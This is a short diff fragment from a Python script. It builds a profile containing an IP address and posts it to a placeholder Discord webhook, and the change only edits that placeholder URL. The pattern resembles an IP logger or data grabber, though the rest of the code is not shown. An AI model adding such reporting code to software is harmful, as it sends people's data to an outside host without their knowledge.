@@ -13,7 +13,7 @@ profile = {
     "ip": ip,
 }
 requests.post(
-    "https://discord.com/api/webhooks/000000000000000000/placeholder",
+    "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder",
     json={"content": str(profile)},
     timeout=5,
 )
